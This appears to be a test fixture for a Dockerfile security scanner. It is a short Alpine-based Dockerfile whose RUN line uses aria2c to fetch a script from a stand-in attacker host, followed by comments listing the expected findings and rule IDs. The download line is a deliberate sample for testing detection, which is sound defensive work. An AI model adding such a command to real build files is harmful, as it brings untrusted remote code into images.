FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN aria2c -o z https://evil.example/x.sh
USER app
# expect: download 2 high "aria2c fetches https://evil.example/x.sh"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-ede6ff0f34 VR501-e064bac1a6
